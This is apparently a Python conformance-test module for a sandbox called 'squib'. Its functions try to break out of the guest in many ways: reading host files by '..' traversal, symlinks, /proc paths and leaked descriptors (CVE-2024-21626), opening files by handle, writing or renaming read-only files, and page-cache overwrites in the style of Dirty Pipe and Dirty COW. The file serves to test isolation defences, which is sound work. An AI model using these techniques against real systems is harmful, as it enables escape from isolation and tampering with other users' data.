"""The host's files: by path, by descriptor, by handle, and by way of what the machine may only read."""

import ctypes
import mmap
import os
from pathlib import Path

from tests.conformance.escape.attempts.base import Bait, Shown, attempt, call, first, libc, opens, pids

_AT_FDCWD = -100
_PAGE = 4096


def _holds_secret(path: str, bait: Bait) -> str | None:
    with open(path, "rb") as file:
        return path if bait.secret.encode() in file.read(1 << 20) else None


@attempt(
    why="The host's files hold keys, other people's work and squib's own state.", wins="it is read", shown=Shown.USER
)
def host_file(bait: Bait) -> str | None:
    """Open a file of the host's that all may read, by its path."""
    return _holds_secret(bait.file, bait)


@attempt(why="A root that can be climbed over is none.", wins="the host's file is read", shown=Shown.USER)
def host_file_by_dots(bait: Bait) -> str | None:
    """Climb from the workspace by more `..` than it is deep, then down to the host's file."""
    return _holds_secret("../" * 64 + bait.file.lstrip("/"), bait)


@attempt(why="Links are made freely in the workspace.", wins="the host's file is read", shown=Shown.USER)
def host_file_by_link(bait: Bait) -> str | None:
    """A symbolic link in the workspace to the host's file, then read."""
    os.symlink(bait.file, "link-out")
    return _holds_secret("link-out", bait)


@attempt(
    why="/proc/PID/root and cwd lead into another process's view of the files.",
    wins="the host's file is read",
    shown=Shown.USER,
)
def host_file_by_proc(bait: Bait) -> str | None:
    """Go through /proc/PID/root and /proc/PID/cwd of every process that is to be seen."""
    ways = [f"/proc/{pid}/{name}" for pid in pids() for name in ("root", "cwd")]
    return first(
        lambda way: _holds_secret(f"{way}/{'../' * 64 if way.endswith('cwd') else ''}{bait.file.lstrip('/')}", bait),
        ways,
    )


@attempt(
    why="A directory left open from outside leads back there (CVE-2024-21626).",
    wins="the host's file is read",
    shown=Shown.USER,
)
def host_file_by_descriptor(bait: Bait) -> str | None:
    """From each directory that any process here holds open, climb by `..` and go down to the host's file."""
    held = os.open(".", os.O_PATH)
    try:
        folders = [f"/proc/{pid}/fd/{fd}" for pid in pids() for fd in _listed(f"/proc/{pid}/fd")]
        return first(lambda folder: _holds_secret(f"{folder}/{'../' * 64}{bait.file.lstrip('/')}", bait), folders)
    finally:
        os.close(held)


def _listed(path: str) -> list[str]:
    try:
        return os.listdir(path)
    except OSError:
        return []


@attempt(
    why="A file's handle names it on its whole file system, wherever the caller's root is.",
    wins="a handle opens",
    shown=Shown.ROOT,
)
def file_by_handle(bait: Bait) -> str | None:
    """name_to_handle_at(2) of the workspace, then open_by_handle_at(2): any inode's handle can be made up."""
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.create_string_buffer(4)
    call("name_to_handle_at", _AT_FDCWD, b".", handle, mount, 0)
    place = os.open(".", os.O_RDONLY)
    found = call("open_by_handle_at", place, handle, os.O_RDONLY | os.O_DIRECTORY)
    return f"opened as descriptor {found}"


@attempt(why="squib's state holds the records, sockets and work of every machine.", wins="one of them is listed")
def host_state(bait: Bait) -> str | None:
    """List squib's state directory and this machine's own directory by the host's paths."""
    places = [
        bait.machines,
        str(Path(bait.machines).parent),
        *([bait.neighbour.directory + "/workspace"] if bait.neighbour else []),
    ]
    return first(lambda place: f"{place}: {os.listdir(place)[:3]}", places)


@attempt(
    why="The root, its programs and squib's own files are shared with other machines or with the host.",
    wins="a file is made there",
)
def write_beside(bait: Bait) -> str | None:
    """Make a file in each directory that is there to be read only."""

    def make(folder: str) -> str:
        path = f"{folder}/squib-attempt"
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
        os.unlink(path)
        return path

    return first(make, bait.closed)


@attempt(
    why="The gateway's socket and the guest's configuration are the host's word.", wins="one is moved or removed"
)
def replace_what_the_host_left(bait: Bait) -> str | None:
    """Rename the read-only directories and files away, as if to put others in their place."""

    def move(path: str) -> str:
        os.rename(path, f"{path}.squib-attempt")
        os.rename(f"{path}.squib-attempt", path)
        return path

    return first(move, [*bait.readonly, *(place for place in bait.closed if place.startswith("/run/squib/"))])


@attempt(why="The same inode may be seen by others.", wins="it opens, changes its mode or its times")
def write_the_readonly(bait: Bait) -> str | None:
    """Open for writing, chmod(2) and utime(2) of a file that is there to be read only."""
    return (
        first(lambda path: opens(path, os.O_WRONLY), bait.readonly)
        or first(lambda path: os.chmod(path, os.stat(path).st_mode) or f"chmod {path}", bait.readonly)
        or first(lambda path: os.utime(path) or f"utime {path}", bait.readonly)
    )


@attempt(why="A descriptor opened to read must not become one to write.", wins="it opens to write")
def reopen_the_readonly(bait: Bait) -> str | None:
    """Open /proc/self/fd/N of a descriptor that was opened to read, for writing."""

    def again(path: str) -> str | None:
        with open(path, "rb") as file:
            return opens(f"/proc/self/fd/{file.fileno()}", os.O_RDWR)

    return first(again, bait.readonly)


@attempt(
    why="A hard link in a writable directory would lose the mount's being read-only.",
    wins="the link is made",
    shown=Shown.ROOT,
)
def link_the_readonly(bait: Bait) -> str | None:
    """link(2) of a read-only file into the workspace."""

    def link(path: str) -> str:
        os.link(path, "hard-link")
        os.unlink("hard-link")
        return path

    return first(link, bait.readonly)


def _changed(path: str, before: bytes) -> str | None:
    return f"{path} has changed" if Path(path).read_bytes() != before else None


@attempt(
    why="Read-only files are shared through the page cache (Dirty Pipe, CVE-2022-0847).", wins="the file has changed"
)
def page_cache_by_splice(bait: Bait) -> str | None:
    """Fill and drain a pipe so that its buffers may be merged into, splice a byte of the file in, write after it."""

    def overwrite(path: str) -> str | None:
        before = Path(path).read_bytes()
        reader, writer = os.pipe()
        size = 65536
        for _ in range(size // 4096):
            os.write(writer, bytes(4096))
        for _ in range(size // 4096):
            os.read(reader, 4096)
        with open(path, "rb", buffering=0) as file:
            os.splice(file.fileno(), writer, 1, offset_src=0)
        os.write(writer, b"squib-attempt")
        os.close(reader)
        os.close(writer)
        return _changed(path, before)

    return first(overwrite, bait.readonly)


@attempt(why="The same by a private mapping (Dirty COW, CVE-2016-5195).", wins="the file has changed")
def page_cache_by_private_mapping(bait: Bait) -> str | None:
    """Write through /proc/self/mem to a private read-only mapping of the file while its pages are thrown away."""

    def overwrite(path: str) -> str | None:
        before = Path(path).read_bytes()
        with open(path, "rb") as file, open("/proc/self/mem", "r+b", buffering=0) as memory:
            address = _mapped(file.fileno(), mmap.PROT_READ, mmap.MAP_PRIVATE)
            for _ in range(200):
                memory.seek(address)
                memory.write(b"s")
                libc.madvise(ctypes.c_void_p(address), _PAGE, mmap.MADV_DONTNEED)
        return _changed(path, before)

    return first(overwrite, bait.readonly)


@attempt(why="A mapping's protection can be changed later.", wins="mprotect(2) makes it writable")
def page_cache_by_shared_mapping(bait: Bait) -> str | None:
    """Map the file shared and to read, then mprotect(2) the mapping to be written."""

    def protect(path: str) -> str | None:
        with open(path, "rb") as file:
            address = _mapped(file.fileno(), mmap.PROT_READ, mmap.MAP_SHARED)
        changed = libc.mprotect(ctypes.c_void_p(address), _PAGE, mmap.PROT_READ | mmap.PROT_WRITE)
        return path if changed == 0 else None

    return first(protect, bait.readonly)


def _mapped(descriptor: int, protection: int, flags: int) -> int:
    """The address of a mapping of the file's first page: Python's own mappings do not tell theirs."""
    libc.mmap.restype = ctypes.c_void_p
    address = libc.mmap(None, ctypes.c_size_t(_PAGE), protection, flags, descriptor, ctypes.c_long(0))
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mmap")
    return int(address)
